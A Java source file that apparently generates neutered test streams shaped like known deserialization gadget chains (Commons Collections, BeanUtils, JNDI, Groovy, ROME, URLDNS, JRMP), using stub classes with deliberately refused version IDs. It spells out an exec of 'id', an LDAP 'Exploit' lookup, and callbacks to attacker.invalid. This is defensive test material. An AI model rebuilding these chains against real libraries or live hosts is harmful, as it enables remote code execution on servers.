import java.io.*;
import java.lang.reflect.*;
import java.net.*;
import java.nio.file.*;
import java.util.*;

/**
 * Streams in the shape of known gadget chains: {@code java JavaGadgets FOLDER}. The classes are stubs of this file under
 * the names of the real ones, with versions that the real ones refuse, so that no stream does anything anywhere.
 */
public final class JavaGadgets {
  private static final long REFUSED = 0x5E55C11L;
  private static final Map<String, Class<?>> names = new LinkedHashMap<>();
  private static Path folder;

  static class Transformer implements Serializable {
    private static final long serialVersionUID = REFUSED;
  }

  static class ConstantTransformer extends Transformer {
    private static final long serialVersionUID = REFUSED;
    Object iConstant = Runtime.class;
  }

  static class InvokerTransformer extends Transformer {
    private static final long serialVersionUID = REFUSED;
    Object[] iArgs;
    String iMethodName;
    Class<?>[] iParamTypes = {};
    InvokerTransformer(String name, Object... arguments) {
      iMethodName = name;
      iArgs = arguments;
    }
  }

  static class ChainedTransformer extends Transformer {
    private static final long serialVersionUID = REFUSED;
    Transformer[] iTransformers;
  }

  static class LazyMap implements Serializable {
    private static final long serialVersionUID = REFUSED;
    Transformer factory;
    private void writeObject(ObjectOutputStream out) throws IOException {
      out.defaultWriteObject();
      out.writeObject(new HashMap<>());
    }
  }

  static class TiedMapEntry implements Serializable {
    private static final long serialVersionUID = REFUSED;
    Object key = "foo";
    LazyMap map;
  }

  static class BeanComparator implements Comparator<Object>, Serializable {
    private static final long serialVersionUID = REFUSED;
    Comparator<String> comparator = String.CASE_INSENSITIVE_ORDER;
    String property = "outputProperties";
    public int compare(Object a, Object b) { return 0; }
  }

  static class TemplatesImpl implements Serializable {
    private static final long serialVersionUID = REFUSED;
    int _indentNumber = 0;
    int _transletIndex = -1;
    byte[][] _bytecodes = {new byte[700], new byte[300]};
    String _name = "Pwnr";
  }

  static class BaseRowSet implements Serializable {
    private static final long serialVersionUID = REFUSED;
    String dataSource = "ldap://127.0.0.1:1389/Exploit";
    String URL = null;
  }

  static class JdbcRowSetImpl extends BaseRowSet {
    private static final long serialVersionUID = REFUSED;
  }

  static class MethodClosure implements Serializable {
    private static final long serialVersionUID = REFUSED;
    Object owner = "id";
    String method = "execute";
  }

  static class SignedObject implements Serializable {
    private static final long serialVersionUID = REFUSED;
    byte[] content;
    byte[] signature = {1};
    String thealgorithm = "DSA";
  }

  static class DiskFileItem implements Serializable {
    private static final long serialVersionUID = REFUSED;
    byte[] cachedContent = {1, 2, 3};
    File repository = new File("/var/www/\0");
  }

  static class InstantiateTransformer extends Transformer {
    private static final long serialVersionUID = REFUSED;
    Object[] iArgs = {new TemplatesImpl()};
    Class<?> iTypes = String.class;
    Class<?> iTypeToInstantiate = TrAXFilter.class;
  }

  static class TrAXFilter implements Serializable {
    private static final long serialVersionUID = REFUSED;
  }

  static class ToStringBean implements Serializable {
    private static final long serialVersionUID = REFUSED;
    Class<?> _beanClass = TemplatesImpl.class;
    Object _obj = "x";
  }

  public static void main(String[] arguments) throws Exception {
    folder = Path.of(arguments[0]);
    String collections = "org.apache.commons.collections.";
    names.put(collections + "functors.ConstantTransformer", ConstantTransformer.class);
    names.put(collections + "functors.InvokerTransformer", InvokerTransformer.class);
    names.put(collections + "functors.ChainedTransformer", ChainedTransformer.class);
    names.put(collections + "functors.InstantiateTransformer", InstantiateTransformer.class);
    names.put(collections + "Transformer", Transformer.class);
    names.put(collections + "map.LazyMap", LazyMap.class);
    names.put(collections + "keyvalue.TiedMapEntry", TiedMapEntry.class);
    names.put("org.apache.commons.beanutils.BeanComparator", BeanComparator.class);
    names.put("com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl", TemplatesImpl.class);
    names.put("com.sun.org.apache.xalan.internal.xsltc.trax.TrAXFilter", TrAXFilter.class);
    names.put("javax.sql.rowset.BaseRowSet", BaseRowSet.class);
    names.put("com.sun.rowset.JdbcRowSetImpl", JdbcRowSetImpl.class);
    names.put("org.codehaus.groovy.runtime.MethodClosure", MethodClosure.class);
    names.put("java.security.SignedObject", SignedObject.class);
    names.put("org.apache.commons.fileupload.disk.DiskFileItem", DiskFileItem.class);
    names.put("com.sun.syndication.feed.impl.ToStringBean", ToStringBean.class);

    ChainedTransformer chained = new ChainedTransformer();
    chained.iTransformers = new Transformer[] {
      new ConstantTransformer(), new InvokerTransformer("getMethod", "getRuntime", new Class<?>[0]),
      new InvokerTransformer("invoke", null, new Object[0]), new InvokerTransformer("exec", "id")
    };
    LazyMap lazy = new LazyMap();
    lazy.factory = chained;
    TiedMapEntry tied = new TiedMapEntry();
    tied.map = lazy;
    write("commons-collections", new HashSet<>(List.of(tied)));

    TiedMapEntry alone = new TiedMapEntry();
    write("lazy-map-alone", alone);
    PriorityQueue<Object> queue = new PriorityQueue<>(2, new BeanComparator());
    queue.add(new TemplatesImpl());
    write("beanutils-templates", queue);
    write("instantiate", new InstantiateTransformer());
    write("jndi", new JdbcRowSetImpl());
    write("groovy", new MethodClosure());
    write("rome", new ToStringBean());
    write("file", new DiskFileItem());
    SignedObject signed = new SignedObject();
    signed.content = Bytes.of("inside");
    write("signed-object", signed);
    write("reference", new javax.naming.Reference("Exploit", "Exploit", "http://127.0.0.1:8000/"));

    // Without a look-up here: this handler knows no host.
    URLStreamHandler quiet = new URLStreamHandler() {
      @Override
      protected URLConnection openConnection(URL url) { return null; }
      @Override
      protected InetAddress getHostAddress(URL url) { return null; }
    };
    Map<Object, Object> urls = new HashMap<>();
    urls.put(new URL(null, "http://session.attacker.invalid/x", quiet), "x");
    write("urldns", urls);

    Class<?> liveRef = Class.forName("sun.rmi.transport.LiveRef");
    Class<?> endpoint = Class.forName("sun.rmi.transport.Endpoint");
    Class<?> tcp = Class.forName("sun.rmi.transport.tcp.TCPEndpoint");
    Object live = liveRef.getConstructor(java.rmi.server.ObjID.class, endpoint, boolean.class).newInstance(
        new java.rmi.server.ObjID(7), tcp.getConstructor(String.class, int.class).newInstance("attacker.invalid", 1099), false);
    Object ref = Class.forName("sun.rmi.server.UnicastRef").getConstructor(liveRef).newInstance(live);
    write("jrmp", java.lang.reflect.Proxy.newProxyInstance(JavaGadgets.class.getClassLoader(), new Class<?>[] {java.rmi.registry.Registry.class},
        new java.rmi.server.RemoteObjectInvocationHandler((java.rmi.server.RemoteRef) ref)));
  }

  private static void write(String name, Object value) throws IOException {
    Bytes.write(folder, "gadget-" + name + ".bin", Bytes.renamed(Bytes.of(value), names));
  }
}
